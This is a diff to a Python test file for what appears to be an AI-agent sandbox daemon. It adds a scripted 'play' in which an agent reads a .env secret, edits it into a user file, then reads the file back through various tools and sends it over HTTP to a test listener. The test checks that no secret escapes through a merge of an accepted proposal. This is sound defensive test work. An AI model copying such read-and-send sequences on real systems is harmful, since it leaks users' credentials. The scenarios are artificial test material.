@@ -32,12 +32,17 @@ LOOKS = (
     call("run_command", argv=["cat", NAME]),
     call("look_with", argv=["cat", NAME]),
 )
-WRITES, NOTHING = 0, len(LOOKS) + 1
+WRITES, NOTHING, EDITS = 0, len(LOOKS) + 1, len(LOOKS) + 2
+LINES = "".join(f"line {number}\n" for number in range(30))
 SPELLED = "([a-z]+-[a-z]+-[0-9]+-[a-z]+)"
 PLAYS = (
-    Play(([call("read_file", path=".env")], [call("write_file", path=NAME, content=COPIED)]), says="Read .env."),
+    Play(
+        ([call("read_file", path=".env")], [call("edit_file", path=NAME, old="line 3\n", new=COPIED)]),
+        says="Read .env.",
+    ),
     *(Play(([look], [http("PORT", told_by(look["name"], SPELLED))])) for look in LOOKS),
     Play(([call("list_files")],)),
+    Play(([call("edit_file", path=NAME, old="line 25\n", new="line twentyfive\n")],)),
 )
 """The first writes the secret down, each of the next looks by another tool and sends what it saw."""
 
@@ -45,7 +50,7 @@ PLAYS = (
 @asynccontextmanager
 async def accepted(root: Path) -> AsyncIterator[Client]:
     """The secret is in a file of the user's and nowhere else; nothing of it may arrive."""
-    files = {".env": f"SPELL={SECRET}\n", NAME: "Nothing.\n"}
+    files = {".env": f"SPELL={SECRET}\n", NAME: LINES}
     attack = Attack(name="folders", threat="", files=files, plays=PLAYS, answers=trusts_the_place, off="")
     async with listener() as server:
         async with world(root, attack, server, off=False) as daemon, daemon.client() as client:
@@ -98,3 +103,20 @@ async def test_a_content_that_comes_while_a_session_is_there_and_is_edited_after
         (other / NAME).write_text(f"Now: {SECRET}\n")
         await look(client, session_id, 1)
         await look(client, await begin(client, other), 2)
+
+
+async def test_a_content_that_comes_under_a_proposal_and_is_merged_with_it(tmp_path: Path) -> None:
+    """No session saw the file as its user had put it there: it is known from the decision."""
+    root, other = tmp_path / "p", tmp_path / "q"
+    other.mkdir()
+    (other / NAME).write_text(LINES)
+    async with accepted(root) as client:
+        await trust(client, other, "restricted")
+        session_id = await begin(client, other)
+        assert await play_on(client, session_id, PLAYS, EDITS, trusts_the_place) == ["ok"]
+        shutil.copy(root / NAME, other / NAME)
+        await accept_all(client, session_id)
+        merged = (other / NAME).read_text()
+        assert SECRET in merged
+        assert "twentyfive" in merged
+        await look(client, session_id, 1)
